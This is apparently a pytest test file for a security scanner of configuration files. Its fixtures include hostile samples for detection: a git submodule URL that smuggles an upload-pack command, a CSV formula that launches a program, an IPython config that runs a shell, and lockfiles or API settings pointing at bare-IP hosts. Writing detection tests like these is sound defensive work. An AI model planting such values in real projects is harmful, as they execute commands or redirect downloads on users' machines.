"""Settings of package managers, git, editors and IPython, and tables of text, that have something fetched or run."""

import json

import pytest

from modelscan_plus.core.finding import Severity
from tests.samples import inspect, inspect_tree


@pytest.mark.parametrize(
    ("name", "text", "high"),
    [
        ("requirements.txt", "-r https://u.example/r.txt\n", True),
        ("requirements.txt", "-r https://raw.githubusercontent.com/a/b/main/r.txt\n", False),
        ("requirements.txt", "-r dev.txt\n", False),
        ("pyproject.toml", "[[tool.uv.index]]\nurl = 'https://pypi.u.example/simple'\n", True),
        ("pyproject.toml", "[[tool.uv.index]]\nurl = 'https://download.pytorch.org/whl/cu124'\n", False),
        ("pyproject.toml", "[project.urls]\nurl = 'https://u.example/simple'\n", False),
        ("package.json", json.dumps({"dependencies": {"a": "https://u.example/a.tgz"}}), True),
        ("package.json", json.dumps({"dependencies": {"a": "^1.0.0"}, "homepage": "https://u.example/a.tgz"}), False),
        (".gitmodules", '[submodule "a"]\n\tpath = a\n\turl = --upload-pack=touch${IFS}/tmp/x\n', True),
        (".gitmodules", '[submodule "a"]\n\tpath = a\n\turl = https://github.com/a/b.git\n', False),
        ("data.csv", "a,b\n=cmd|'/c calc'!A0,1\n", True),
        ("data.csv", "a,b\n=SUM(A1:A2),-1\n", False),
        ("ipython_config.py", "c = get_config()\nc.App.exec_lines = [\"import os; os.system('id | sh')\"]\n", True),
        ("ipython_config.py", "c = get_config()\nc.App.exec_lines = ['import numpy as np']\n", False),
        (".continue/config.yaml", "models:\n  - apiBase: https://u.example/v1\n", True),
        (".continue/config.yaml", "models:\n  - apiBase: http://localhost:11434\n", False),
    ],
)
def test_settings(name, text, high):
    worst = max((found.severity.rank for found in inspect(text.encode(), name).findings), default=-1)
    assert (worst >= Severity.HIGH.rank) is high


@pytest.mark.parametrize(
    ("name", "text", "denied"),
    [
        (".env", "OPENAI_BASE_URL=http://203.0.113.120/v1\nOPENAI_API_KEY=\n", True),
        ("serve.sh", "export HF_ENDPOINT=http://203.0.113.120\npython app.py\n", True),
        ("yarn.lock", 'x@^1.0.0:\n  version "1.0.0"\n  resolved "http://203.0.113.120/x-1.0.0.tgz#abc"\n', True),
        ("package-lock.json", '{"packages": {"x": {"resolved": "http://203.0.113.120/x-1.0.0.tgz"}}}', True),
        ("env.json", '{"env": {"ANTHROPIC_BASE_URL": "http://203.0.113.120"}}', True),
        (".env", "OPENAI_BASE_URL=http://192.168.1.5:8000/v1\nOPENAI_API_KEY=\n", False),
        (".env", "OPENAI_BASE_URL=https://api.openai.com/v1\n# not http://203.0.113.120\n", False),
        (
            "package-lock.json",
            '{"packages": {"x": {"resolved": "https://codeload.github.com/x/x/tar.gz/1f"}}}',
            False,
        ),
        ("README.md", "Our demo ran at http://203.0.113.120 until May.\n", False),
    ],
)
def test_clients_are_not_sent_to_bare_addresses(name: str, text: str, denied: bool) -> None:
    found = inspect_tree({name: text.encode()})
    assert any(finding.severity.rank >= Severity.HIGH.rank for finding in found) is denied


@pytest.mark.parametrize(
    ("name", "url", "told"),
    [
        (".lfsconfig", "http://203.0.113.9:8080/lfs", True),
        (".lfsconfig", "http://lfs.acme.example/enc", True),
        (".lfsconfig", "https://github.com/acme/enc.git/info/lfs", False),
        (".lfsconfig", "https://lfs.acme.example/enc", False),
        ("config", "http://203.0.113.9/dvc", True),
        ("config", "s3://acme-models/dvc", False),
    ],
)
def test_where_weights_are_fetched_from(name: str, url: str, told: bool) -> None:
    head = "[lfs]" if name == ".lfsconfig" else "[core]\n    remote = w\n['remote \"w\"']"
    found = inspect_tree({name: f"{head}\n\turl = {url}\n".encode()})
    assert any(each.rule == "MSP5058" and each.severity is Severity.HIGH for each in found) is told
